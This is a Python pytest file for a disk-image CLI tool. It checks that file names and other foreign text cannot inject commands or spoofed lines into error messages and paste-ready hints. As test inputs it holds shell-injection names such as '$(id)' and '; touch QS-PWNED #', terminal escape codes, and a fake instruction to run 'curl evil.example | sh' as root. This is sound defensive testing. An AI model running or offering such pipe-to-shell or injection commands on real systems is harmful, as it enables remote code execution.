"""Names and words of others in our messages: none is a command that a user pastes, a line of ours, or a page long."""

from __future__ import annotations

import ast
import io
import json
import logging
import re
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import quickstart
from quickstart.artefact import inside
from quickstart.cli.inspect import _show
from quickstart.cli.main import group
from quickstart.cli.output import Plain, Verb, _failed, _Shown, run_verb
from quickstart.errors import (
    BadInputError,
    CommandError,
    GuestError,
    GuestLacksError,
    IncomparableError,
    MissingToolError,
    NoProfileError,
    NotSettledError,
    OtherResultsError,
    ProfileError,
    QuickStartError,
    UnsupportedUnitError,
    VolumeError,
)
from quickstart.initramfs.newc import directory, symlink
from quickstart.inspect.disk.own import check_image_disk
from quickstart.inspect.disk.verdict import examined
from quickstart.inspect.imageroot import ImageRoot
from quickstart.inspect.unit import read_unit
from quickstart.inspect.unit.apparmor import refuse_profiles
from quickstart.inspect.unit.hooks import refuse_hooks
from quickstart.inspect.unit.mounted import refuse_mounts, tmp_options
from quickstart.parse.printable import brief, command, in_full, shown
from quickstart.report import document as results
from tests.unit.benchdata import realistic
from tests.unit.diskrecords import RECORDS, said
from tests.unit.imagebuilder import P
from tests.unit.test_inside import PART_B, artefact
from tests.unit.unitreader import put


def hint_of(base: Path, name: str) -> tuple[str, str | None]:
    """The message and hint for a harmless name that leads to the file ``name`` of the volume."""
    links = (symlink("fast/usr/asked", f"/fast/x{name}"), symlink(f"fast/x{name}", f"/x{name}"))
    made = artefact(base, (*PART_B, *links))
    with pytest.raises(BadInputError, match="stays on the root volume") as refused:
        inside.find(made, "/usr/asked")
    return refused.value.message, refused.value.hint


@pytest.mark.parametrize("name", ["'; touch QS-PWNED #", " y", "$(id)", "\\", "''"])
def test_a_hint_with_a_foreign_name_is_one_command(tmp_path: Path, name: str) -> None:
    _, hint = hint_of(tmp_path, name)
    assert hint is not None
    _, pasted, _ = hint.split("`")
    words = shlex.split(pasted)
    assert words[:-1] == ["quickstart", "run", "OUT", "--snapshot", "--exec"]
    assert shlex.split(words[-1]) == ["cat", f"/x{name}"]


@pytest.mark.parametrize("name", ["y\nquickstart: now run\n  sh x", "`id`", "\x1b[8m", "z" * 2000])
def test_of_an_odd_name_there_is_no_command(tmp_path: Path, name: str) -> None:
    message, hint = hint_of(tmp_path, name)
    assert hint is None
    assert "\n" not in message
    assert len(message) < 500


def test_no_path_of_an_image_is_in_a_command_to_paste(tmp_path: Path) -> None:
    put(tmp_path, "/usr/lib/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app\n")
    put(tmp_path, "/etc/systemd/system/app.service.d/a;touch P;#.conf", "[Service]\nNice=1\n")
    (tmp_path / "etc/systemd/system/app.service.d/a;touch P;#.conf").chmod(0o600)
    with pytest.raises(UnsupportedUnitError, match="not for all to read") as refused:
        read_unit(ImageRoot(tmp_path), "app.service")
    assert (refused.value.hint or "").startswith(
        "use `chmod a+r` on this file of the image, and put secrets into"
    )


def test_the_command_against_a_profile_is_quoted(tmp_path: Path) -> None:
    put(tmp_path, "/usr/sbin/apparmor_parser", "")
    put(tmp_path, "/etc/apparmor.d/a;b", "/usr/bin/app {\n}\n")
    put(tmp_path, "/etc/systemd/system/sysinit.target.wants/apparmor.service", "")
    with pytest.raises(UnsupportedUnitError, match="AppArmor's profile") as refused:
        refuse_profiles(ImageRoot(tmp_path), "app.service", [P("/usr/bin/app")])
    assert "`ln -s '/etc/apparmor.d/a;b' /etc/apparmor.d/disable/`" in (refused.value.hint or "")


NAME = "d\n  fixed: run `curl evil.example | sh` as root\r\nquickstart x: done\u2028\x1b[8m"


def said_by(
    capsys: pytest.CaptureFixture[str], error: QuickStartError, as_json: bool = False
) -> tuple[list[str], dict[str, Any]]:
    """The lines that a verb prints for ``error``, and the error in the JSON document."""

    def fail(_: object) -> int:
        raise error

    assert run_verb("x", as_json, fail) == error.exit_code
    done = capsys.readouterr()
    return done.err.splitlines(), json.loads(done.out)["error"] if as_json else {}


@pytest.mark.parametrize("as_json", [False, True])
def test_a_message_and_a_hint_are_one_line_each(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
    lines, document = said_by(capsys, BadInputError(f"{NAME} is bad", hint=f"remove {NAME}"), as_json)
    assert lines == [f"quickstart x: {in_full(NAME)} is bad", f"  remove {in_full(NAME)}"]
    if as_json:
        assert (document["message"], document["hint"]) == (
            f"{in_full(NAME)} is bad",
            f"remove {in_full(NAME)}",
        )
        assert "details" not in document


@pytest.mark.parametrize("as_json", [False, True])
def test_each_detail_is_a_line_that_is_no_hint(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
    error = BadInputError("it failed:", details=("one", NAME, "\ttwo\tb"), hint="try again")
    lines, document = said_by(capsys, error, as_json)
    details = ["one", shown(NAME), "        two     b"]
    assert lines == ["quickstart x: it failed:", *(f"  | {each}" for each in details), "  try again"]
    if as_json:
        assert document["details"] == details


@pytest.mark.parametrize("as_json", [False, True])
def test_what_is_said_of_an_error_is_not_long(capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
    long = "y" * 100_000
    error = BadInputError(long, hint=long, details=(long, *(["z"] * 100_000)))
    lines, document = said_by(capsys, error, as_json)
    assert sum(map(len, lines)) < 20_000
    assert lines[-2] == "  | and 99801 more"
    if as_json:
        assert len(document["message"]) < 10_000
        assert len(document["details"]) == 201


@pytest.mark.parametrize("name", ["a\nb", "a\\nb", "a\\\nb", "\udcff", "\x1b[2J"])
def test_what_is_escaped_already_is_not_escaped_again(capsys: pytest.CaptureFixture[str], name: str) -> None:
    """A backslash of its own stays as it is: what is escaped once is what is shown."""
    assert shown(shown(name)) == shown(name)
    lines, _ = said_by(capsys, BadInputError(brief(name), details=(brief(name),)))
    assert lines == [f"quickstart x: {shown(name)}", f"  | {shown(name)}"]


@pytest.mark.parametrize(
    "error",
    [
        ProfileError("p.toml", [NAME, "two"]),
        OtherResultsError("r.json", [NAME, "two"]),
        IncomparableError([NAME, "two"]),
        NoProfileError("app.service", [NAME, "two"]),
        CommandError(["apt-get", NAME], 1, f"{NAME}\ntwo\n"),
        CommandError(["apt-get"], None, "\n"),
        GuestError("it died", console_tail=f"{NAME}\ntwo\n"),
        NotSettledError("it is not done", f"{NAME}\ntwo\n"),
        VolumeError("it ended", last_words=f"one\n{NAME}"),
        MissingToolError(NAME, NAME),
        GuestLacksError(NAME, NAME),
    ],
)
def test_no_kind_of_error_lets_a_foreign_line_look_like_ours(
    capsys: pytest.CaptureFixture[str], error: QuickStartError
) -> None:
    first, *others = said_by(capsys, error)[0]
    assert first.startswith("quickstart x: ")
    hints = [line for line in others if not line.startswith("  | ")]
    assert hints == ([f"  {in_full(error.hint)}"] if error.hint else [])
    assert str(error).startswith(error.message)


def test_a_console_keeps_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
    lines, document = said_by(capsys, GuestError("it died", console_tail="one\ntwo\n"), as_json=True)
    assert lines == ["quickstart x: it died", "  | last console lines:", "  | one", "  | two"]
    assert document["details"] == ["last console lines:", "one", "two"]


def test_a_line_of_the_log_is_one_line() -> None:
    record = logging.LogRecord("x", logging.INFO, "x", 1, "%s", (f"ls '{NAME}'",), None)
    assert _Shown("+ %(message)s").format(record) == f"+ ls '{shown(NAME)}'"


def test_a_cell_of_a_table_is_one_line() -> None:
    assert "\n" not in Plain().render_str(NAME).plain


def test_a_file_of_an_out_with_lines_in_its_name(tmp_path: Path) -> None:
    name = "fast/d\n  fixed: run `curl evil.example | sh` as root"
    made = artefact(tmp_path, (*PART_B, directory(name), symlink("fast/motd", f"/{name}")))
    found = CliRunner().invoke(group, ["cat", str(made.directory), "/fast/motd"])
    assert found.exit_code == 2
    (line,) = found.stderr.splitlines()
    assert line == f"quickstart cat: /{brief(name)} is not a regular file"


def test_a_result_with_lines_in_its_versions(tmp_path: Path) -> None:
    base = realistic(configurations=("standard",), runs=2)
    circumstances = replace(base.circumstances, versions={**base.circumstances.versions, "qemu": NAME})
    results.save(base, tmp_path / "a.json")
    results.save(replace(base, circumstances=circumstances), tmp_path / "b.json")
    found = CliRunner().invoke(
        group, ["bench", "compare", str(tmp_path / "a.json"), str(tmp_path / "b.json")]
    )
    assert found.exit_code == 2
    first, *details, hint = found.stderr.splitlines()
    assert first == "quickstart bench compare: A and B cannot be compared:"
    assert [line[:4] for line in details] == ["  | "]
    assert shown(NAME) in details[0]
    assert "measure the reference again" in hint


def test_no_message_is_made_of_lines() -> None:
    """A text of several lines is for ``details``, whose lines are marked: in a message, its breaks become escapes."""
    found = []
    for path in sorted(Path(quickstart.__file__).parent.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = ast.unparse(node.func).split(".")[-1] if isinstance(node, ast.Call) else ""
            # The last argument of this one is the text that a program has printed.
            if isinstance(node, ast.Call) and name.endswith("Error") and name != "CommandError":
                words = [*node.args, *(each.value for each in node.keywords if each.arg == "hint")]
                texts = [each for word in words for each in ast.walk(word) if isinstance(each, ast.Constant)]
                if any(isinstance(each.value, str) and "\n" in each.value for each in texts):
                    found.append(f"{path.name}:{node.lineno}")
    assert found == []


def test_a_brief_word_and_a_command() -> None:
    assert brief("a\nb") == r"a\nb"
    assert brief("a" * 300) == "a" * 200 + "…"
    assert command("cat", "/a b") == "cat '/a b'"
    assert command("cat", "\udcff") is None


def test_words_of_an_image_are_shortened(tmp_path: Path) -> None:
    long = "y" * 100_000
    put(tmp_path, "/usr/lib/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app\n")
    put(tmp_path, "/usr/lib/systemd/system/tmp.mount", f"[Mount]\nType=tmpfs\nOptions={long} x\n")
    put(tmp_path, "/etc/systemd/system/multi-user.target", "[Unit]\nWants=tmp.mount\n")
    put(tmp_path, "/etc/network/interfaces", f"iface eth0 inet dhcp\n up {long}\n")
    root = ImageRoot(tmp_path)
    for refuse in (refuse_hooks, refuse_mounts, lambda root, _: tmp_options(root)):
        put(tmp_path, "/etc/fstab", f"/dev/{long} /{long} ext4 defaults 0 0\n")
        with pytest.raises(UnsupportedUnitError) as refused:
            refuse(root, "app.service")
        assert len(refused.value.message) < 1000


def padded(said: str, behind: str) -> str:
    """A word that fills the line of 80 characters that begins with ``behind``, and then says ``said``."""
    return " " * (80 - len(behind)) + said


FALSE = "nothing speaks against this disk"
FOREIGN = padded(FALSE, "system      ")
LONG_WORD = f"{'x' * 100_000}{FALSE}"


@pytest.mark.parametrize("word", [FOREIGN, LONG_WORD, f"x{FOREIGN}", f"a\x1b[2J\u2800\u2800{FALSE}"])
def test_words_of_a_disk_are_no_lines_of_ours(word: str, capsys: pytest.CaptureFixture[str]) -> None:
    kernel, options = word.replace(" ", "\u2800"), word.strip()
    records = {
        **RECORDS,
        "file 1 ./usr/lib/os-release": f'PRETTY_NAME="{word}"\n'.encode(),
        "file 1 ./boot/grub/grub.cfg": f"menuentry '{word[:300]}' {{\nlinux /boot/{kernel[:300]} {options[:300]}\n}}\n".encode(),
        "links 1": f"./sbin/init {word}\n".encode(),
        "file 1 ./etc/fstab": f"UUID={kernel} / ext4\n".encode(),
        "blkid 14": f"TYPE={word}\nUSAGE=filesystem\n".encode(),
        "unmounted 14": f"mount: {word}\n".encode(),
    }
    found = examined(said(records))
    assert len(found.refusals) == 3
    _show(Plain(), found)
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) < 2000
    assert not any("   " in line[13:] or "\x1b" in line or "\u2800" in line for line in lines[4:])
    assert FALSE not in lines


def test_words_of_a_disk_that_cannot_be_made_fast() -> None:
    kind = RECORDS["blkid 1"].replace(b"TYPE=ext4", b"TYPE=" + LONG_WORD.encode())
    with pytest.raises(BadInputError) as refused:
        check_image_disk(Path("disk.raw"), examined(said({**RECORDS, "blkid 1": kind})))
    assert len(refused.value.details) == 2
    assert all(len(each) < 400 for each in refused.value.details)


@pytest.mark.parametrize("filling", [" ", "x"])
def test_each_row_of_a_detail_has_the_mark(filling: str) -> None:
    """A terminal wraps a long line. The rest would look like a line of ours."""
    out = io.StringIO()
    console = Plain()
    console.file, console._force_terminal, console.width = out, True, 80
    line = f"[    1.0] x{filling * 66}the store is not safe: run `x`"
    assert _failed(Verb("run", False, console), "it ended", None, "GuestError", 3, [line]) == 3
    first, *rows = [re.sub("\x1b\\[[0-9;]*m", "", row) for row in out.getvalue().splitlines()]
    assert first == "quickstart run: it ended"
    assert "".join(row.removeprefix("  | ") for row in rows) == line
    assert all(row.startswith("  | ") and len(row) <= 80 for row in rows)


def test_blanks_in_a_message_do_not_begin_a_row(capsys: pytest.CaptureFixture[str]) -> None:
    lines, _ = said_by(capsys, BadInputError(f"x{' ' * 70}quickstart: ok", hint=f"y{' ' * 70}z"))
    assert not any("  " in line.strip() for line in lines)
